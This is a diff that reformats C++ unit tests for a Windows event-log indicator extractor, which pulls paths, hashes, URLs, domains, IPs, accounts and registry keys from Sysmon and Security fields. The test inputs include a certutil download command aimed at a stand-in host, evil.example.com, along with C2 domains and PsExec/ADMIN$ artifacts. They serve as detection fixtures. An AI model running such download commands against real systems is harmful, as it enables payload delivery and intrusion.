@@ -16,28 +16,40 @@ std::string traces_of(const std::vector<MadeBatch::Named>& fields) {
     std::vector<Trace> traces;
     extractor.extract(made.batch, made.batch.records[0], traces);
     std::string out;
-    for (const Trace& trace : traces) out.append(out.empty() ? "" : " ").append(name_of(trace.type)).append("=").append(trace.value);
+    for (const Trace& trace : traces)
+        out.append(out.empty() ? "" : " ")
+            .append(name_of(trace.type))
+            .append("=")
+            .append(trace.value);
     return out;
 }
 
 }  // namespace
 
 TEST_CASE("extract: Sysmon fields give what they hold") {
-    CHECK(traces_of({{"Image", "C:\\Windows\\CMD.exe"}}) == "file_path=c:\\windows\\cmd.exe file_name=cmd.exe");
-    CHECK(traces_of({{"Hashes", "SHA1=A9993E364706816ABA3E25717850C26C9CD0D89D,MD5=900150983CD24FB0D6963F7D28E17F72,"
-                                "IMPHASH=00000000000000000000000000000000"}}) ==
-          "sha1=a9993e364706816aba3e25717850c26c9cd0d89d md5=900150983cd24fb0d6963f7d28e17f72");
+    CHECK(traces_of({{"Image", "C:\\Windows\\CMD.exe"}}) ==
+          "file_path=c:\\windows\\cmd.exe file_name=cmd.exe");
+    CHECK(
+        traces_of(
+            {{"Hashes",
+              "SHA1=A9993E364706816ABA3E25717850C26C9CD0D89D,MD5=900150983CD24FB0D6963F7D28E17F72,"
+              "IMPHASH=00000000000000000000000000000000"}}) ==
+        "sha1=a9993e364706816aba3e25717850c26c9cd0d89d md5=900150983cd24fb0d6963f7d28e17f72");
     CHECK(traces_of({{"CommandLine", "certutil -urlcache http://evil.example.com/x"}}) ==
           "command_line=certutil -urlcache http://evil.example.com/x url=http://evil.example.com/x "
           "domain=evil.example.com");
-    CHECK(traces_of({{"QueryName", "C2.Example.com"}, {"QueryResults", "type:  5 cdn.example.net;::ffff:198.51.100.7;"}}) ==
+    CHECK(traces_of({{"QueryName", "C2.Example.com"},
+                     {"QueryResults", "type:  5 cdn.example.net;::ffff:198.51.100.7;"}}) ==
           "domain=c2.example.com domain=cdn.example.net ipv4=198.51.100.7");
-    CHECK(traces_of({{"DestinationIp", "198.51.100.7"}, {"DestinationHostname", "c2.example.com"}}) ==
-          "ipv4=198.51.100.7 domain=c2.example.com");
+    CHECK(
+        traces_of({{"DestinationIp", "198.51.100.7"}, {"DestinationHostname", "c2.example.com"}}) ==
+        "ipv4=198.51.100.7 domain=c2.example.com");
     CHECK(traces_of({{"DestinationHostname", "WS-07"}}) == "host=ws-07");
     CHECK(traces_of({{"PipeName", "\\MSSE-4321-server"}}) == "pipe=MSSE-{n}-server");
-    CHECK(traces_of({{"TargetObject", "HKLM\\System\\ControlSet001\\Services\\x"}, {"Details", "http://a.example.com"}}) ==
-          "registry_key=hkey_local_machine\\system\\currentcontrolset\\services\\x url=http://a.example.com/ "
+    CHECK(traces_of({{"TargetObject", "HKLM\\System\\ControlSet001\\Services\\x"},
+                     {"Details", "http://a.example.com"}}) ==
+          "registry_key=hkey_local_machine\\system\\currentcontrolset\\services\\x "
+          "url=http://a.example.com/ "
           "domain=a.example.com");
     CHECK(traces_of({{"User", "CORP\\alice"}}) == "account=corp\\alice");
 }
@@ -50,30 +62,39 @@ TEST_CASE("extract: Security fields give accounts with their domain, and never m
                      {"IpAddress", "::ffff:10.0.0.5"},
                      {"IpPort", "49152"}}) ==
           "sid=S-1-5-21-1-2-3-1104 account=corp\\alice host=ws-07 ipv4=10.0.0.5");
-    CHECK(traces_of({{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "DC01$"}, {"SubjectDomainName", "CORP"}}) == "");
+    CHECK(traces_of({{"SubjectUserSid", "S-1-5-18"},
+                     {"SubjectUserName", "DC01$"},
+                     {"SubjectDomainName", "CORP"}}) == "");
     CHECK(traces_of({{"TargetUserName", "alice@CORP.LOCAL"}, {"TargetDomainName", "CORP.LOCAL"}}) ==
           "account=corp.local\\alice");
-    CHECK(traces_of({{"ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\x"}}) == "registry_key=hkey_local_machine\\software\\x");
+    CHECK(traces_of({{"ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\x"}}) ==
+          "registry_key=hkey_local_machine\\software\\x");
     CHECK(traces_of({{"ObjectName", "C:\\a\\b.txt"}}) == "file_path=c:\\a\\b.txt file_name=b.txt");
-    CHECK(traces_of({{"ShareName", "\\\\*\\IPC$"}, {"RelativeTargetName", "svcctl"}}) == "pipe=svcctl");
-    CHECK(traces_of({{"ShareName", "\\\\*\\ADMIN$"}, {"RelativeTargetName", "x.exe"}}) == "file_name=x.exe");
-    CHECK(traces_of({{"TaskName", "\\Updater"}, {"TaskContent", "<Command>http://a.example.com/x</Command>"}}) ==
+    CHECK(traces_of({{"ShareName", "\\\\*\\IPC$"}, {"RelativeTargetName", "svcctl"}}) ==
+          "pipe=svcctl");
+    CHECK(traces_of({{"ShareName", "\\\\*\\ADMIN$"}, {"RelativeTargetName", "x.exe"}}) ==
+          "file_name=x.exe");
+    CHECK(traces_of({{"TaskName", "\\Updater"},
+                     {"TaskContent", "<Command>http://a.example.com/x</Command>"}}) ==
           "task=\\updater url=http://a.example.com/x domain=a.example.com");
 }
 
 TEST_CASE("extract: a service name is one only where the record installs a service") {
     CHECK(traces_of({{"ServiceName", "PSEXESVC"}, {"ImagePath", "%SystemRoot%\\PSEXESVC.exe"}}) ==
           "service=psexesvc command_line=%SystemRoot%\\PSEXESVC.exe");
-    CHECK(traces_of({{"ServiceName", "krbtgt"}, {"ServiceSid", "S-1-5-21-1-2-3-502"}}) == "sid=S-1-5-21-1-2-3-502");
+    CHECK(traces_of({{"ServiceName", "krbtgt"}, {"ServiceSid", "S-1-5-21-1-2-3-502"}}) ==
+          "sid=S-1-5-21-1-2-3-502");
 }
 
 TEST_CASE("extract: other logs and free text give what they hold") {
     CHECK(traces_of({{"ClientIP", "198.51.100.7:50270"}}) == "ipv4=198.51.100.7");
     CHECK(traces_of({{"Data", "Invoke http://evil.example.com/a mail to x@example.com"}}) ==
           "url=http://evil.example.com/a domain=evil.example.com email=x@example.com");
-    CHECK(traces_of({{"Threat Name", "T"}, {"Path", "file:_C:\\a\\x.exe; containerfile:_C:\\a\\y.zip->z.exe"}}) ==
+    CHECK(traces_of({{"Threat Name", "T"},
+                     {"Path", "file:_C:\\a\\x.exe; containerfile:_C:\\a\\y.zip->z.exe"}}) ==
           "file_path=c:\\a\\x.exe file_name=x.exe file_path=c:\\a\\y.zip file_name=y.zip");
-    CHECK(traces_of({{"FileVersion", "1.2.3.4"}, {"LogonProcessName", "http://x.example.com"}}) == "");
+    CHECK(traces_of({{"FileVersion", "1.2.3.4"}, {"LogonProcessName", "http://x.example.com"}}) ==
+          "");
     CHECK(traces_of({{"SubjectUserName", "-"}, {"IpAddress", "-"}, {"Image", ""}}) == "");
 }
 
